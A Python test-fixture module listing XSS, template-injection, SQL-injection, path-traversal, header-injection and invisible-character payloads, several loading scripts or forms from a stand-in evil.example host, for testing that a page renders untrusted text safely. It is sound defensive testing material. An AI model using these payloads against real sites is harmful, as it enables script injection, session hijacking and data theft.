"""Texts that do harm where a page shows them as anything but text.

Each calls `proctor_ran`, opens a dialog, asks `evil.example` for something, or spoils the page around
it. `MARKUP` are in one piece, `UNSEEN` hold characters that cannot be seen, `huge_texts` are made on
demand.
"""

from __future__ import annotations

from browsing import EVIL

_RUN = "proctor_ran(1);alert(1)"
_SCRIPT = f"<script>{_RUN}</script>"
_IMAGE = f"<img src=x onerror='{_RUN}'>"

MARKUP = {
    "script": _SCRIPT,
    "script-in-capitals": f"<SCRIPT >{_RUN}</SCRIPT >",
    "script-from-elsewhere": f"<script src={EVIL}/x.js></script>",
    "module": f'<script type=module>import "{EVIL}/m.js"</script>',
    "image-handler": _IMAGE,
    "image-from-elsewhere": f"<img src={EVIL}/a.png>",
    "image-set": f'<img srcset="{EVIL}/a.png 1x, {EVIL}/b.png 2x">',
    "svg-handler": f"<svg onload='{_RUN}'>",
    "svg-script": f"<svg><script>{_RUN}</script></svg>",
    "svg-script-address": f"<svg><script href='data:,{_RUN}' /></svg>",
    "svg-animation": f"<svg><a><animate attributeName=href values='javascript:{_RUN}'/>x</a></svg>",
    "svg-foreign": f"<svg><foreignObject><iframe srcdoc='{_SCRIPT}'></iframe></foreignObject></svg>",
    "svg-use": f"<svg><use href='{EVIL}/s.svg#a'></use></svg>",
    "math": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{_IMAGE}'>",
    "math-link": f"<math href='javascript:{_RUN}'>x</math>",
    "details": f"<details open ontoggle='{_RUN}'>x</details>",
    "body": f"<body onload='{_RUN}' onpageshow='{_RUN}'>",
    "focus": f"<input autofocus onfocus='{_RUN}'>",
    "video": f"<video src={EVIL}/v.mp4 autoplay><source onerror='{_RUN}'></video>",
    "frame": f"<iframe src='{EVIL}'></iframe>",
    "frame-document": f'<iframe srcdoc="{_SCRIPT}"></iframe>',
    "frame-script": f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    "object": f"<object data='{EVIL}/o.swf'></object><embed src='{EVIL}/e.swf'>",
    "form": f"<form action='{EVIL}'><button autofocus>Judge again</button></form>",
    "form-end": f"</form><form action='{EVIL}' id=f></form><button form=f formaction='{EVIL}'>x</button>",
    "base": f"<base href='{EVIL}/' target=_blank>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "stylesheet": f"<link rel=stylesheet href='{EVIL}/s.css'><link rel=prefetch href='{EVIL}/p'>",
    "style": f"<style>@import '{EVIL}/i.css'; body {{ display: none }}</style>",
    "style-attribute": f"<p style='position:fixed;inset:0;background:url({EVIL}/b.png)'>x",
    "end-textarea": f"</textarea>{_SCRIPT}",
    "end-pre": f"</pre></code></td></table>{_SCRIPT}",
    "end-script": f"</script>{_SCRIPT}",
    "end-style": f"</style>{_SCRIPT}",
    "end-title": f"</title></svg>{_SCRIPT}",
    "end-select": f"</option></select>{_IMAGE}",
    "end-mark": f"</mark><mark>{_IMAGE}",
    "end-document": f"</main></body></html>{_SCRIPT}",
    "comment": f"--><!-->{_SCRIPT}<!--",
    "section": f"]]>{_SCRIPT}<![CDATA[",
    "plaintext": "<plaintext>",
    "raw-text": f'<xmp><p title="</xmp>{_IMAGE}">',
    "no-script": f'<noscript><p title="</noscript>{_IMAGE}">',
    "shadow": f"<template shadowrootmode=open>{_SCRIPT}</template>",
    "quote": f'" autofocus onfocus="{_RUN}" x="',
    "apostrophe": f"' autofocus onfocus='{_RUN}' x='",
    "backtick": f"` autofocus onfocus={_RUN} x=`",
    "no-quote": f"x autofocus onfocus={_RUN} tabindex=0",
    "attribute-end": f'">{_SCRIPT}<a title="',
    "script-address": f"javascript:{_RUN}",
    "script-address-in-capitals": f"JaVaScRiPt:{_RUN}//",
    "script-address-comment": f"javascript://%0a{_RUN}",
    "data-address": f"data:text/html,{_SCRIPT}",
    "other-site": f"//{EVIL.removeprefix('http://')}/",
    "entities": "&lt;script&gt;proctor_ran(1)&lt;/script&gt;",
    "entities-twice": "&amp;lt;img src=x onerror=proctor_ran(1)&amp;gt;",
    "entities-by-number": "&#60;script&#62;proctor_ran(1)&#x3c;/script&#x3e;",
    "entity-address": f"javascript&colon;{_RUN}",
    "entity-open": f"&quot onfocus={_RUN} &copy &notit; &#0; &#xD800; &#x110000;",
    "escapes": "\\x3cscript\\x3eproctor_ran(1)\\u003c/script\\u003e",
    "template": "{{7*7}}{% for x in [1] %}{{ self.__init__.__globals__ }}{% endfor %}{# x #}",
    "template-open": "{% raw %}{{ {%",
    "template-of-scripts": "${proctor_ran(1)} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}",
    "formats": "%s%n%x {0.__class__} %(x)s $x ${x}",
    "names-of-objects": "__proto__",
    "clobbering": "<form id=document name=location><input name=body><img name=cookie>",
    "wide-signs": f"＜script＞{_RUN}＜/script＞",
    "old-charset": "+ADw-script+AD4-proctor_ran(1)+ADw-/script+AD4-",
    "path": "../../../../etc/passwd",
    "path-encoded": "..%2f..%2fconsole%3fx=%00",
    "address-parts": "a/b?job=c&step=1#d;e=f%g+h",
    "query": "a' OR '1'='1' --",
    "words-of-the-index": 'NEAR("a" AND * ^ "',
    "number": "-1e999",
}
"""Each stands on a page exactly as it is."""

UNSEEN = {
    "null": f"a\0b<scr\0ipt>{_RUN}</scr\0ipt>",
    "controls": "".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32), *range(127, 160)])),
    "lines": f"one\ntwo\r\nthree\rfour\u2028five\u2029six\vseven\n{_SCRIPT}",
    "header": f"x\r\nSet-Cookie: a=b\r\nContent-Type: text/html\r\n\r\n{_SCRIPT}",
    "tabbed-address": f"java\tscript:{_RUN}",
    "led-address": f"\x01 javascript:{_RUN}",
    "tab-in-element": f"<img\fsrc=x\tonerror\n=\r{_RUN}>",
    "surrogate": "a\ud800b\udfffc",
    "surrogates-turned": "\ude00\ud83d",
    "right-to-left": "abc\u202egnp.exe\u202e",
    "isolates-open": "\u2066\u2067\u2068 open \u202a\u202b\u202d",
    "no-width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg",
    "mark-of-order": f"\ufeff{_SCRIPT}",
    "tags": "x" + "".join(chr(0xE0000 + ord(each)) for each in "ignored") + "\U000e007f",
    "piled-marks": "Z" + "\u0300\u0489\u0334" * 60 + "a" + "\u0336" * 100,
    "no-characters": "\ufffe\uffff\ufdd0\U0010ffff",
    "private": "\ue000\U000f0000",
    "spaces": " \u00a0\u3000 x ",
}
"""Their pages may name or replace characters of them."""

HOSTILE = {**MARKUP, **UNSEEN}


def huge_texts() -> dict[str, str]:
    """Texts of up to 5 MB."""
    return {
        "one-line": "a" * 5_000_000,
        "one-line-of-marks": "a\u0301\u202e" * 1_000_000,
        "many-lines": "\n".join(f"<b>line {number}" for number in range(100_000)),
        "deep": "<div>" * 200_000,
        "entities": "&" * 1_000_000,
        "words": "word " * 500_000,
    }
